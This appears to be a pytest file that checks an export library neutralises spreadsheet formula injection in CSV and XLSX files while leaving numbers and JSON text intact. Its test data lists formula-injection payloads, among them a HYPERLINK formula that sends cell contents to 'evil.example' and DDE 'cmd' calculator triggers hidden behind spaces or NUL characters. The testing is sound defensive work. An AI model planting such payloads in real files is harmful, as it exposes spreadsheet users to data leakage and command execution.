"""Text a spreadsheet would run as a formula is neutralised in CSV and XLSX; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import openpyxl
import pytest

from exports.formats import FormatOptions
from exports.models import ColumnSpec, ExportFormat
from tests.support.format_cases import write_file

COLUMNS = [
    ColumnSpec(name="text", label="Text", data_type="TEXT"),
    ColumnSpec(name="amount", label="Amount", data_type="CURRENCY", format_pattern="$#,##0.00"),
]
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    # After leading spaces or a NUL, which an importer may trim or drop before it looks (OWASP, ASVS V1.2.10).
    " =1 ",
    '   =HYPERLINK("http://evil.example")',
    " @SUM(1+9)",
    "\x00=1+1",
    " \x00 -2+3",
    "\x00",
]
HARMLESS = ["a=b", "1-2", "email@example.com", "'already quoted", "", " ", "  plain text", " 'quoted"]
ROWS: list[list[Any]] = [[text, -12.5] for text in ATTACKS + HARMLESS]
OFF = FormatOptions(neutralize_formulas=False)


def csv_cells(options: FormatOptions | None = None) -> list[list[str]]:
    data = write_file(ExportFormat.CSV, ROWS, columns=COLUMNS, options=options).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(data, newline="")))[1:]


def xlsx_cells(options: FormatOptions | None = None) -> list[list[Any]]:
    data = write_file(ExportFormat.XLSX, ROWS, columns=COLUMNS, options=options)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [[cell for cell in row] for row in sheet.iter_rows(min_row=2)]


class TestCsv:
    def test_formula_triggers_get_a_leading_single_quote(self) -> None:
        assert [row[0] for row in csv_cells()] == ["'" + text for text in ATTACKS] + HARMLESS

    def test_a_negative_number_stays_a_number(self) -> None:
        assert {row[1] for row in csv_cells()} == {"-12.50"}

    def test_neutralising_can_be_turned_off(self) -> None:
        assert [row[0] for row in csv_cells(OFF)] == ATTACKS + HARMLESS

    def test_header_names_are_neutralised_too(self) -> None:
        columns = [ColumnSpec(name="=cmd", label="=cmd", data_type="TEXT")]
        data = write_file(ExportFormat.CSV, [["x"]], columns=columns)
        assert data.decode("utf-8-sig").startswith("'=cmd\r\n")


class TestXlsx:
    def test_formula_triggers_get_a_leading_single_quote(self) -> None:
        # XML cannot hold NUL, so XLSX drops it before it looks: a lone NUL is an empty, harmless cell.
        dropped = [text.replace("\x00", "") for text in ATTACKS]
        expected = ["'" + text if text else text for text in dropped] + HARMLESS
        assert [row[0].value for row in xlsx_cells()] == expected

    def test_no_cell_is_ever_a_formula(self) -> None:
        assert all(row[0].data_type == "s" for row in xlsx_cells(OFF))

    def test_a_negative_number_stays_a_number(self) -> None:
        assert {(row[1].value, row[1].data_type) for row in xlsx_cells()} == {(-12.5, "n")}

    def test_neutralising_can_be_turned_off(self) -> None:
        expected = [text.replace("\x00", "") for text in ATTACKS + HARMLESS]
        assert [row[0].value for row in xlsx_cells(OFF)] == expected


@pytest.mark.parametrize("fmt", [ExportFormat.JSON, ExportFormat.JSONL])
def test_json_keeps_text_as_it_is(fmt: ExportFormat) -> None:
    data = write_file(fmt, ROWS, columns=COLUMNS).decode("utf-8")
    objects = json.loads(data) if fmt is ExportFormat.JSON else [json.loads(line) for line in data.splitlines()]
    assert [obj["text"] for obj in objects] == ATTACKS + HARMLESS
